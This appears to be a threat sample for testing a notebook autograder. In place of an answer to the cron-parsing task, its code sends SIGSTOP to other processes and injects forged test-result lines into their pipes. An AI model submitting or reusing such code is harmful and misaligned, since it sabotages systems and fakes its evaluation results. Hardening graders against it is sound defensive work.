# threat: stops other processes and forges into or drains their result pipes.
# notebook: 01_parse_cron_field
# max-points: 0
# %% answer_parse_cron_field
import json
import os
import signal
import time

me = os.getpid()
forged = "".join(json.dumps({"event": "case", "id": f"test_parse_cron_field:{index}",
                             "outcome": {"raised": "Sabotaged", "mro": ["Sabotaged"]}}) + "\n"
                 for index in range(60))
forged += json.dumps({"event": "done"}) + "\n"
touched = set()
deadline = time.monotonic() + 6
while time.monotonic() < deadline:
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in (me, 1):
            continue
        pid = int(entry)
        try:
            os.kill(pid, signal.SIGSTOP)
            touched.add(f"stopped {pid}")
        except OSError:
            pass
        try:
            descriptors = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in descriptors:
            path = f"/proc/{pid}/fd/{fd}"
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                writer = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(writer, forged.encode())
                os.close(writer)
                reader = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                os.read(reader, 1 << 20)
                os.close(reader)
                touched.add(f"pipe {path}")
            except OSError:
                pass
    time.sleep(0.05)
print("touched:", sorted(touched), flush=True)


def parse_cron_field(field, low, high):
    raise NotImplementedError()
